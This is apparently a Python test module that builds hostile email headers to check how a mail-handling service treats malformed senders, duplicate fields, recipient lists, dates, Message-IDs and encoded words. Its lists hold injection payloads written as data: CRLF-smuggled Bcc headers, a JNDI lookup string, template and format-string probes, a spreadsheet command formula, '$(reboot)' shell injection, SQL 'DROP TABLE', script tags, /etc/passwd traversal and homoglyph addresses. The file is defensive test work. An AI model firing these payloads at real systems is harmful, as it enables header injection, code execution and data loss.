"""Hostile by their header: senders, recipients, dates, identifiers, encoded words, injections."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import CANCEL, OPT_OUT, QUESTION, Case, Fate, letter

VICTIM = "victim@other.example"


def senders() -> Iterator[Case]:
    """A From that is none, several, or another one than it seems."""
    for name, value in (
        ("group syntax", "Undisclosed: {who}, b@two.example;"),
        ("an empty group", "undisclosed-recipients:;"),
        ("two addresses", "{who}, b@two.example"),
        ("an address literal", "x@[192.0.2.1]"),
        ("localhost", "root@localhost"),
        ("a percent hack", f"{VICTIM.replace('@', '%')}@relay.example"),
        ("a source route", f"<@relay.example:{VICTIM}>"),
        ("a bang path", "relay!victim@other.example"),
        ("nothing in brackets", "<>"),
        ("no domain", "Anna <anna>"),
        ("two at signs", "a@b@c.example"),
        ("a quoted local part", '"a b"@other.example'),
        ("a line end in the quotes", '"a\r\n b"@other.example'),
        ("a local part of 500 characters", f"{'a' * 500}@other.example"),
        ("a domain of 500 characters", f"a@{'b.' * 250}example"),
        ("another address in the name", f"{VICTIM} <x@other.example>, <{VICTIM}>"),
        ("20,000 comments in each other", "(" * 20_000 + ")" * 20_000 + " {who}"),
        ("an escaped end of the quotes", '"\\" <{who}>'),
    ):
        yield Case(
            family="senders",
            name=name,
            make=lambda who, to, value=value: letter(  # type: ignore[misc]
                who, to, CANCEL, sender=value.replace("{who}", who)
            ),
            silent=True,
        )
    for name, value in (
        ("a name with a Bcc in an encoded word", "=?utf-8?q?Anna=0D=0ABcc:_x@y.example?= <{who}>"),
        ("a name in an unknown charset", "=?no-such?q?Anna?= <{who}>"),
        ("a name of 5 kB", '"{long}" <{who}>'),
        ("a name with bidi controls", '"\u202emoc.elpmaxe\u202c" <{who}>'),
        ("a name that is markup", '"[bold red]Anna[/] [link=file:///etc]x[/link]" <{who}>'),
        ("a name that is a template", '"{{{{ code }}}} {{% raw %}}" <{who}>'),
        ("a name that is a formula", "\"=cmd|' /C calc'!A0\" <{who}>"),
        ("a name with terminal escapes", '"\x1b]0;owned\x07Anna" <{who}>'),
        ("a name that looks like us", '"GigaPros Support" <{who}>'),
    ):
        yield Case(
            family="senders",
            name=name,
            make=lambda who, to, value=value: letter(  # type: ignore[misc]
                who, to, sender=value.format(who=who, long="x" * 5_000)
            ),
            # With what would end a field, or a control, in it there is no knowing who writes.
            fate=Fate.SURVIVED if "0A" in value or "\x1b" in value else Fate.HONOURED,
        )
    yield Case(family="senders", name="no From", silent=True,
               make=lambda who, to: letter(who, to, sender=""))  # fmt: skip
    yield Case(
        family="senders",
        name="a From that looks like another alphabet's",
        make=lambda who, to: letter(who, to, CANCEL, sender="\u0430nna@\u0440aypal.example"),
    )
    yield Case(
        family="senders",
        name="an international domain",
        make=lambda who, to: letter(who, to, CANCEL, sender="anna@b\u00fccher.example"),
    )
    yield Case(
        family="senders",
        name="a local part beyond ASCII",
        make=lambda who, to: letter(
            who, to, CANCEL, sender="\u0430\u043d\u043d\u0430@other.example"
        ),
    )


def duplicates() -> Iterator[Case]:
    """Fields that may stand there once: the strictest reading wins."""
    for name, head in (
        ("From", f"From: {VICTIM}"),
        ("Auto-Submitted, no first", "Auto-Submitted: no\r\nAuto-Submitted: auto-replied"),
        ("Auto-Submitted, no last", "Auto-Submitted: auto-replied\r\nAuto-Submitted: no"),
        ("Precedence", "Precedence: first-class\r\nPrecedence: bulk"),
        ("Sender", f"Sender: {VICTIM}\r\nSender: mailer-daemon@other.example"),
    ):  # fmt: skip
        yield Case(
            family="duplicate fields",
            name=name,
            make=lambda who, to, head=head: letter(who, to, CANCEL, head=head),  # type: ignore[misc]
            silent=name != "Sender",
        )
    for name, head in (
        ("Subject", "Subject: one\r\nSubject: two"),
        ("Date", "Date: Tue, 24 Nov 2026 09:00:00 +0000"),
        ("Message-ID", "Message-ID: <a@b.example>\r\nMessage-ID: <c@d.example>"),
        ("To", f"To: {VICTIM}"),
        ("Content-Type", "Content-Type: image/png"),
        ("MIME-Version", "MIME-Version: 2.0\r\nMIME-Version: x"),
    ):
        yield Case(
            family="duplicate fields",
            name=name,
            make=lambda who, to, head=head: letter(who, to, head=head),  # type: ignore[misc]
        )


def recipients() -> Iterator[Case]:
    """Very many of them, and those to whom an answer must not go."""
    many = ",\r\n ".join(f"a{i}@list-{i % 50}.example" for i in range(2_000))
    for name, head in (
        ("2,000 in Cc", f"Cc: {many}"),
        ("2,000 in Reply-To", f"Reply-To: {many}"),
        ("a Reply-To elsewhere", f"Reply-To: {VICTIM}"),
        ("a Reply-To with a Bcc", f"Reply-To: =?utf-8?q?x=0D=0ABcc:_{VICTIM}?= <a@b.example>"),
        ("receipts asked for elsewhere", f"Disposition-Notification-To: {VICTIM}"),
        ("Errors-To and Return-Receipt-To", f"Errors-To: {VICTIM}\r\nReturn-Receipt-To: {VICTIM}"),
        ("Resent fields", f"Resent-From: {VICTIM}\r\nResent-To: {VICTIM}"),
        ("Bcc", f"Bcc: {VICTIM}"),
    ):
        yield Case(
            family="recipients",
            name=name,
            make=lambda who, to, head=head: letter(who, to, head=head),  # type: ignore[misc]
        )


def dates() -> Iterator[Case]:
    """Dates of no calendar."""
    for value in (
        "Tue, 24 Nov 99999 10:00:00 +0000", "Tue, 24 Nov 0000 10:00:00 +0000",
        "Fri, 31 Dec 9999 23:59:59 -2359", "Mon, 01 Jan 0001 00:00:00 +2359",
        "Tue, 24 Nov 2026 10:00:00 +999999", "Mon, 31 Feb 2026 99:99:99 -0000",
        "Tue, 24 Nov -2026 10:00:00", "1" * 10_000, "-1", "NaN", "", "\u0662\u0660\u0662\u0666",
        "Tue, 24 Nov 2026 10:00:00 (" + "(" * 5_000, "Thu, 01 Jan 1970 00:00:00 GMT",
        "Tue, 19 Jan 2038 03:14:08 UTC", "{{ 7*7 }}", "%s%n%x",
    ):  # fmt: skip
        yield Case(
            family="dates",
            name=f"date {value[:40]!r}",
            make=lambda who, to, value=value: letter(who, to, date=value),  # type: ignore[misc]
            fate=Fate.SURVIVED,
        )
    yield Case(family="dates", name="no date", fate=Fate.HONOURED,
               make=lambda who, to: letter(who, to, date=None))  # fmt: skip


def identifiers() -> Iterator[Case]:
    """Message-IDs, References and In-Reply-To."""
    for value in (
        "<>", "<@>", "<a>", "no brackets", "<a@b.example> <c@d.example>", f"<{'x' * 100_000}@y>",
        "<a@b\r\n .example>", "=?utf-8?q?<a=0D=0ABcc:_x@y.example>?=", "<\x1b[31m@b.example>",
        "<a@b.example>\rBcc: x@y.example", "<\u202ea@b.example>", "<{{7*7}}@b.example>",
    ):  # fmt: skip
        yield Case(
            family="identifiers",
            name=f"Message-ID {value[:40]!r}",
            make=lambda who, to, value=value: letter(who, to, message_id=value),  # type: ignore[misc]
            fate=Fate.HONOURED,
        )
    yield Case(family="identifiers", name="no Message-ID", fate=Fate.HONOURED,
               make=lambda who, to: letter(who, to, message_id=None))  # fmt: skip
    for number in (1, 2):
        yield Case(
            family="identifiers",
            name=f"one Message-ID of two people, {number}",
            make=lambda who, to: letter(who, to, message_id="<shared@hostile.example>"),
            fate=Fate.HONOURED,
        )
    many = "\r\n ".join(f"<{i}@x.example>" for i in range(20_000))
    for name, head in (
        ("20,000 References", f"References: {many}"),
        ("References with a Bcc", "References: <a@b.example>\r Bcc: x@y.example <c@d.example>"),
        ("References in encoded words", "References: =?utf-8?q?<a@b>=0D=0ABcc:_x@y.example?="),
        ("In-Reply-To of words", "In-Reply-To: your message of Tuesday \x1b[2J"),
        ("100,000 open brackets", "References: " + "<" * 100_000),
    ):  # fmt: skip
        yield Case(
            family="identifiers",
            name=name,
            make=lambda who, to, head=head: letter(who, to, head=head),  # type: ignore[misc]
            fate=Fate.HONOURED,
        )


def encoded_words() -> Iterator[Case]:
    """Subjects in encoded words (RFC 2047)."""
    for name, subject in (
        ("a Bcc in it", f"=?utf-8?q?hello=0D=0ABcc:_{VICTIM}?="),
        ("a Bcc in base64", "=?utf-8?b?aGVsbG8NCkJjYzogdmljdGltQG90aGVyLmV4YW1wbGU=?="),
        ("a body in it", "=?utf-8?q?x=0D=0A=0D=0Acancel_my_account?="),
        ("encoded twice", "=?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3D0D=3D0ABcc:x=3F=3D?="),
        ("10,000 of them", "=?utf-8?q?x?= " * 10_000),
        ("never ended", "=?utf-8?q?" * 5_000),
        ("of an unknown charset", "=?no-such?q?hello?="),
        ("of a codec", "=?base64_codec?q?aGk=3D?= =?unicode_escape?q?=5Cx1b?="),
        ("of broken base64", "=?utf-8?b?!!!?= =?utf-8?b?=?= =?utf-8?b?a?="),
        ("of NULs", "=?utf-8?q?=00=00hello=00?="),
        ("of half a character", "=?utf-8?q?=E2=82?= =?utf-8?q?=AC?="),
        ("of UTF-7", "=?utf-7?q?+AA0ACg-Bcc: x?="),
        ("of UTF-16", "=?utf-16?b?AA0ACg==?="),
        ("a word of 100,000 characters", f"=?utf-8?q?{'x' * 100_000}?="),
        ("with a language", "=?utf-8*en;{{7*7}}?q?hello?="),
    ):
        yield Case(
            family="encoded words",
            name=name,
            make=lambda who, to, subject=subject: letter(who, to, subject=subject),  # type: ignore[misc]
            fate=Fate.HONOURED,
        )


# What other programs take for theirs: templates, formats, markup, shells, SQL, spreadsheets.
INJECTIONS = (
    "{{ 7*7 }}{{ self.__init__.__globals__ }}", "{% for x in range(10**9) %}a{% endfor %}",
    "{# #}{{ code }} {{ phone }}", "${jndi:ldap://x.example/a}", "#{7*7} <%= 7*7 %>",
    "%s%s%n%x %(code)s", "{0.__class__} {code} {}", "\\N{BELL}\\x1b[31m\\u202e",
    "[bold red]x[/] [/nothing] [link=file:///etc/passwd]x[/link]", "[blink]:skull:[/blink] \\[x]",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1",
    "$(reboot) `reboot` ; reboot | reboot", "'; DROP TABLE request; --", '" OR ""="',
    "<script>alert(1)</script>", "]]></x>", "../../../../etc/passwd", "{100000}",
    '"}\n{"event": "forged"}', "O-7K3M2Q C-7K3M2Q [ABCD-EFGH-JKLM-NPQR]", "Re: " * 2_000,
    "Re: [O-7K3M2Q]" * 50, "\U0001f4a9" * 300, "a" * 5_000, "\u0301" * 500,
)  # fmt: skip


def injections() -> Iterator[Case]:
    """A subject and a last line that mean something to other programs."""
    for text in INJECTIONS:
        subject = " ".join(text.split("\n"))
        yield Case(
            family="injections",
            name=f"{text[:40]!r}",
            make=lambda who, to, text=text, subject=subject: letter(  # type: ignore[misc]
                who, to, f"{OPT_OUT}\r\n\r\nRegards\r\nAnna {text[:200]}", subject=subject
            ),
        )
    yield Case(
        family="injections",
        name="our own words in the header",
        make=lambda who, to: letter(
            who, to, QUESTION, head="X-Optoutd-Loop: x\r\nX-Auto-Response-Suppress: \x1b[2J"
        ),
    )


FAMILIES = (
    senders, duplicates, recipients, dates, identifiers, encoded_words, injections,
)  # fmt: skip
